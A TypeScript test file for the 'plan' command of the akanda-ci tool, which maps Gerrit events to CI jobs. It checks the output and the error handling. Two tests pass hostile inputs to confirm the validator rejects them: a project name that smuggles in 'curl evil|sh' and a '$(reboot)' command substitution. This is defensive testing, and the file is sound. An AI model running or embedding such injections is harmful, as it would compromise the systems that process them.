import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { REPO_ROOT, runCli } from './run-cli';

const FIXTURES = join(REPO_ROOT, 'test', 'fixtures', 'gerrit-events');
const fixturePath = (name: string) => join(FIXTURES, name);

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'akanda-ci-plan-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function expectOneLineError(result: { code: number | null; stdout: string; stderr: string }, message: string) {
  expect(result.code).toBe(2);
  expect(result.stdout).toBe('');
  expect(result.stderr).toBe(`akanda-ci plan: ${message}\n`);
}

describe('akanda-ci plan', () => {
  it('prints the plan of a patchset-created as JSON and exits 0', async () => {
    const result = await runCli([
      'plan',
      '--event',
      fixturePath('ssh-new-patchset-created.json'),
      '--config',
      'akanda-ci.yaml',
      '--image-base-url',
      'https://d111.cloudfront.net',
    ]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const plan = JSON.parse(result.stdout);
    expect(plan.supersedes).toEqual([{ project: 'stackforge/akanda-rug', change: 187040, belowPatchset: 3 }]);
    expect(plan.ignored).toBeUndefined();
    expect(plan.triggered).toHaveLength(1);
    const [buildset] = plan.triggered;
    expect(buildset).toMatchObject({
      pipeline: 'check',
      project: 'stackforge/akanda-rug',
      branch: 'master',
      change: 187040,
      patchset: 3,
      ref: 'refs/changes/40/187040/3',
    });
    expect(buildset.dependsOn.map((d: { change?: number; changeId?: string }) => d.change ?? d.changeId)).toEqual([
      187042,
      187043,
      expect.stringMatching(/^I[0-9a-f]{40}$/),
    ]);
    expect(
      buildset.jobs.map((j: { name: string; imageMode: string; imageUrl?: string }) => [
        j.name,
        j.imageMode,
        j.imageUrl,
      ]),
    ).toEqual([
      ['pep8', 'none', undefined],
      ['py27', 'none', undefined],
      ['dsvm-tempest-akanda', 'prebuilt', 'https://d111.cloudfront.net/akanda-appliance-latest.qcow2'],
    ]);
    expect(buildset.jobs[2]).toMatchObject({ voting: true, node: 'devstack', timeoutSeconds: 9000 });
  });

  it('reads ./akanda-ci.yaml by default and the event from stdin with -', async () => {
    const result = await runCli(['plan', '--event', '-'], {
      stdin: readFileSync(fixturePath('webhook-new-patchset-created-appliance.json'), 'utf8'),
    });
    expect(result.code).toBe(0);
    const plan = JSON.parse(result.stdout);
    expect(plan.triggered[0].project).toBe('stackforge/akanda-appliance');
    expect(plan.triggered[0].jobs[2]).toMatchObject({ name: 'dsvm-tempest-akanda', imageMode: 'build' });
  });

  it('filters jobs by --files and says when no image URL is known', async () => {
    const docsOnly = await runCli([
      'plan',
      '--event',
      fixturePath('ssh-new-comment-added-recheck.json'),
      '--files',
      '/COMMIT_MSG,doc/source/index.rst',
    ]);
    expect(docsOnly.code).toBe(0);
    expect(JSON.parse(docsOnly.stdout).triggered[0].jobs.map((j: { name: string }) => j.name)).toEqual(['pep8']);
    const code = await runCli([
      'plan',
      '--event',
      fixturePath('ssh-new-comment-added-recheck.json'),
      '--files',
      'akanda/rug/worker.py',
    ]);
    const dsvm = JSON.parse(code.stdout).triggered[0].jobs[2];
    expect(dsvm).toMatchObject({ name: 'dsvm-tempest-akanda', imageMode: 'prebuilt' });
    expect(dsvm.imageUrl).toBeUndefined();
    expect(dsvm.imageUnavailable).toMatch(/^no appliance image URL is known/);
  });

  it('exits 0 with the reason when nothing triggers', async () => {
    const merged = await runCli(['plan', '--event', fixturePath('webhook-new-change-merged.json')]);
    expect(merged.code).toBe(0);
    expect(JSON.parse(merged.stdout)).toEqual({
      triggered: [],
      supersedes: [],
      ignored: 'change-merged does not trigger post: the ref-updated of the merge does',
    });
    const old = await runCli([
      'plan',
      '--event',
      fixturePath('ssh-new-comment-added-recheck.json'),
      '--current-patchset',
      '4',
    ]);
    expect(JSON.parse(old.stdout).ignored).toBe('patchset 3 of change 187040 is not current (current: 4)');
  });

  it('--depends-on an appliance change shows build image mode; other projects keep the prebuilt image', async () => {
    const plan = async (dependsOn: string) => {
      const result = await runCli([
        'plan',
        '--event',
        fixturePath('ssh-new-patchset-created.json'),
        '--image-base-url',
        'https://d111.cloudfront.net',
        '--depends-on',
        dependsOn,
      ]);
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      const jobs = JSON.parse(result.stdout).triggered[0].jobs as { name: string; imageMode: string }[];
      return jobs.find((job) => job.name === 'dsvm-tempest-akanda')?.imageMode;
    };
    expect(await plan('stackforge/akanda-neutron:187050:2,stackforge/akanda-appliance:187051:1')).toBe('build');
    expect(await plan('stackforge/akanda-neutron:187050:2')).toBe('prebuilt');
  });

  it('invalid JSON: one line on stderr, exit 2', async () => {
    expectOneLineError(
      await runCli(['plan', '--event', '-'], { stdin: '{"type": "patchset-created",' }),
      'event is not valid JSON',
    );
  });

  it('a hostile project name: one line on stderr, exit 2', async () => {
    const event = JSON.parse(readFileSync(fixturePath('ssh-new-patchset-created.json'), 'utf8'));
    event.change.project = 'stackforge/akanda-rug;curl evil|sh';
    expectOneLineError(
      await runCli(['plan', '--event', '-'], { stdin: JSON.stringify(event) }),
      'change.project: project "stackforge/akanda-rug;curl evil|sh" may contain only letters, digits, ".", "_", "/", "+" and "-"',
    );
  });

  it('an unreadable event file: one line, exit 2', async () => {
    expectOneLineError(
      await runCli(['plan', '--event', join(dir, 'missing.json')]),
      `--event ${join(dir, 'missing.json')}: cannot read the file (ENOENT)`,
    );
  });

  it('an invalid config: its problems on one line, exit 2', async () => {
    const config = join(dir, 'bad.yaml');
    writeFileSync(config, 'gerrit: { url: https://x.example }\n');
    const result = await runCli(['plan', '--event', fixturePath('ssh-new-patchset-created.json'), '--config', config]);
    expectOneLineError(
      result,
      `${config}: gerrit.username: required; ${config}: projects: required; ${config}: jobs: required; ${config}: nodes: required`,
    );
  });

  it.each([
    [[], '--event FILE|- is required'],
    [['--event', 'x', '--bogus'], "Unknown option '--bogus'"],
    [['--event', 'x', '--image-base-url', 'file:///etc'], '--image-base-url: expected an http(s) URL'],
    [['--event', 'x', '--current-patchset', 'three'], '--current-patchset: expected a patchset number'],
    [
      ['--event', 'x', '--depends-on', 'stackforge/akanda-appliance:12'],
      '--depends-on "stackforge/akanda-appliance:12": expected PROJECT:CHANGE:PATCHSET',
    ],
    [
      ['--event', 'x', '--depends-on', 'stackforge/a:1:1,$(reboot)/x:1:1'],
      '--depends-on "$(reboot)/x:1:1": project may contain only letters, digits',
    ],
    [
      ['--event', 'x', '--depends-on', 'stackforge/a:0:1'],
      '--depends-on "stackforge/a:0:1": change and patchset must be numbers from 1',
    ],
  ])('usage errors %j exit 2 with the usage line', async (args, message) => {
    const result = await runCli(['plan', ...args]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr.split('\n')[0]).toContain(`akanda-ci plan: ${message}`);
    expect(result.stderr).toContain('usage: akanda-ci plan --event FILE|-');
  });
});
